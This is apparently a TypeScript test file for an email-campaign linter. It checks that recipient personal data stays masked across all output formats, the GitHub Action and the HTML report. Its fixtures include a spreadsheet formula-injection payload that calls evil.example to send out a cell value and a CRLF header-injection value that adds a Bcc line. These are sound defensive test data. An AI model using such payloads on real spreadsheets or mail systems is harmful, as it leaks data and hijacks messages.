import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { VALID_CAMPAIGN, VALID_FILES, tempTree } from '../helpers/campaign.js';
import { REPO_ROOT, runCli } from '../helpers/cli.js';
import { maskPii as maskValue } from '../../src/core/mask.js';

/**
 * Known personal values planted where each recipient rule reports them: none may appear in any
 * output format unless --show-pii is given (SPEC §8).
 */
const PLANTED = {
  invalid: 'wilhelmina.invalid@@example.com',
  duplicate: 'Duplicated.Person@example.org',
  suppressed: 'suppressed.person@example.net',
  role: 'postmaster@roles.example.com',
  formula: '=HYPERLINK("https://evil.example/?q=secret-cell-value")',
  injection: 'Grete\r\nBcc: stolen-list@example.org',
  consent: 'nope-not-me',
  leaked: 'leaked.recipient@example.com',
};

const csvQuote = (value: string) => `"${value.replaceAll('"', '""')}"`;
const CSV = [
  'email,first_name,consent,token',
  `${PLANTED.invalid},Willa,yes,t1`,
  `${PLANTED.duplicate.toLowerCase()},Dee,yes,t2`,
  `${PLANTED.duplicate},Dee,yes,t3`,
  `${PLANTED.suppressed},Sue,yes,t4`,
  `${PLANTED.role},Post,yes,t5`,
  `formula@example.com,Form,yes,${csvQuote(PLANTED.formula)}`,
  `injection@example.com,${csvQuote(PLANTED.injection)},yes,t7`,
  `consent@example.com,Con,${PLANTED.consent},t8`,
  `${PLANTED.leaked},Lee,yes,t9`,
].join('\n');

function tree() {
  return tempTree({
    'campaign.yaml': `${VALID_CAMPAIGN.replace('expected_count: 2', 'expected_count: 9')}suppress: [bounced.csv]\n`,
    'recipients.csv': `${CSV}\n`,
    'bounced.csv': `email\n${PLANTED.suppressed}\n`,
    'body.txt': `${VALID_FILES['body.txt'] ?? ''}Test send: ${PLANTED.leaked}\n`,
    'campaign-lint.config.yaml': 'organization:\n  postal_address: "Example Ltd, 1 Main Street, London N1 1AA"\napproval:\n  required: 0\n',
  });
}

/** Every planted value, and the distinctive parts of each (a local part alone is personal too). */
function leaks(output: string): string[] {
  // A role mailbox's local part (postmaster) is a word rule docs use, not a person: only its whole address counts.
  const needles = Object.values(PLANTED).flatMap((value) => (value === PLANTED.role ? [value] : [value, value.split('@')[0] ?? value, value.replace(/\r\n/g, ' ')]));
  needles.push('secret-cell-value', 'stolen-list', 'wilhelmina', 'duplicated.person', 'nope-not-me');
  return [...new Set(needles)].filter((needle) => needle.length > 3 && output.toLowerCase().includes(needle.toLowerCase()));
}

// The invalid address (two `@`) is the locked single-recipient-to's finding: one finding per place, under the locked rule.
const RULES = ['single-recipient-to', 'recipient-duplicate', 'recipient-suppressed', 'recipient-role-address', 'recipient-formula-injection', 'header-injection', 'recipient-consent', 'no-recipient-data-leak'];

for (const format of ['stylish', 'json', 'sarif', 'github', 'junit', 'markdown']) {
  test(`${format}: recipient values are masked`, () => {
    const root = tree();
    const run = runCli(['campaign.yaml', '-f', format], { cwd: root });
    assert.equal(run.status, 1);
    for (const rule of RULES) assert.ok(run.stdout.includes(rule), `${rule} reported`);
    assert.deepEqual(leaks(run.stdout + run.stderr), []);
    // Markdown escapes `*` and `@`; the masked form is what a reader sees.
    assert.match(run.stdout.replaceAll('\\', ''), /w\*\*\*@example\.com/);
  });
}

test('the GitHub Action: annotations, job summary and SARIF are masked', () => {
  const root = tree();
  const runner = tempTree({ 'summary.md': '', 'output.txt': '', 'event.json': '{}' });
  const env: Record<string, string> = {
    PATH: process.env.PATH ?? '',
    GITHUB_ACTIONS: 'true',
    GITHUB_WORKSPACE: root,
    GITHUB_STEP_SUMMARY: join(runner, 'summary.md'),
    GITHUB_OUTPUT: join(runner, 'output.txt'),
    GITHUB_EVENT_PATH: join(runner, 'event.json'),
    GITHUB_EVENT_NAME: 'push',
    INPUT_PATHS: 'campaign.yaml',
    INPUT_CONFIG: '',
    'INPUT_CONFIG-REF': '',
    INPUT_APPROVALS: '',
    'INPUT_SARIF-FILE': join(runner, 'results.sarif'),
    'INPUT_GITHUB-TOKEN': '',
  };
  const run = spawnSync(process.execPath, [join(REPO_ROOT, 'dist/action/index.js')], { cwd: root, env, encoding: 'utf8' });
  assert.equal(run.status, 1, run.stderr);
  const everything = [run.stdout, run.stderr, readFileSync(join(runner, 'summary.md'), 'utf8'), readFileSync(join(runner, 'results.sarif'), 'utf8')].join('\n');
  assert.match(everything, /single-recipient-to/);
  assert.deepEqual(leaks(everything), []);
});

test('preview and the reviewer\'s report are masked', () => {
  const root = tree();
  // Row 7 carries the header-injection value, row 6 the formula: preview both.
  for (const row of ['6', '7', '9']) {
    const preview = runCli(['preview', 'campaign.yaml', '--row', row], { cwd: root });
    assert.equal(preview.status, 0, preview.stderr);
    assert.deepEqual(leaks(preview.stdout + preview.stderr), [], `preview --row ${row}`);
  }
  const report = runCli(['report', 'campaign.yaml', '-o', join(root, '..', `${root.split('/').pop() ?? 'x'}-report.html`)], { cwd: root });
  assert.equal(report.status, 1, report.stderr);
  const html = readFileSync(join(root, '..', `${root.split('/').pop() ?? 'x'}-report.html`), 'utf8');
  assert.match(html, /single-recipient-to/);
  assert.deepEqual(leaks(html.replaceAll('&amp;', '&').replaceAll('&quot;', '"').replaceAll('&#39;', "'").replaceAll('&lt;', '<').replaceAll('&gt;', '>')), []);
});

for (const format of ['stylish', 'json']) {
  test(`${format}: --show-pii shows them`, () => {
    const root = tree();
    const run = runCli(['campaign.yaml', '-f', format, '--show-pii'], { cwd: root });
    assert.equal(run.status, 1);
    const output = format === 'json' ? (JSON.parse(run.stdout) as { messages: { message: string }[] }[]).flatMap((result) => result.messages.map((message) => message.message)).join('\n') : run.stdout;
    for (const value of [PLANTED.invalid, PLANTED.duplicate, PLANTED.suppressed, PLANTED.role, PLANTED.formula, PLANTED.injection, PLANTED.consent, PLANTED.leaked]) {
      assert.ok(output.includes(value), `${JSON.stringify(value)} shown`);
    }
  });
}

test('a value starting with @ is masked without recursing', () => {
  assert.equal(maskValue('@SUM(A1)'), '@***');
  assert.equal(maskValue('@'), '@***');
});
